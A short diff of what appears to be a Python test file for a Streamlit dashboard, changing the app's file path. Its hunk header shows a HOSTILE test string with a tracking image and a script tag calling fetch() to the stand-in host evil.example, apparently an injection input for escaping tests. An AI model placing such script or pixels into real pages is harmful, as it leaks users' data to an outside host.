@@ -14,7 +14,7 @@ HOSTILE = "![x](http://evil.example/pixel.png) <script>fetch('http://evil.exampl
 
 def page() -> AppTest:
     """The dashboard, not run yet."""
-    return AppTest.from_file(str(data.QUERIES.parent / "app.py"), default_timeout=60)
+    return AppTest.from_file(str(data.QUERIES.parent / "start" / "app.py"), default_timeout=60)
 
 
 def fill(ledger: Ledger) -> None:
